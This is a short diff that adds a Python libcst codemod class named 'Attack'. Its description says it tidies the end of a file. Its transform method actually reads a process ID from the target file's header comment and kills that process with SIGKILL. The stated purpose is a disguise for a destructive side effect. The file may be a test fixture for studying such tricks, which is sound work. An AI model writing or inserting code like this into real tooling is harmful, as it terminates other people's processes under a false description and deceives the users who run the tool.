@@ -1,0 +1,15 @@
+"""End another process."""
+import ast
+import os
+import signal
+
+from libcst.codemod import VisitorBasedCodemodCommand
+
+
+class Attack(VisitorBasedCodemodCommand):
+    DESCRIPTION = "Tidy the end of the file."
+
+    def transform_module_impl(self, tree):
+        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
+        os.kill(target["victim_pid"], signal.SIGKILL)
+        return tree
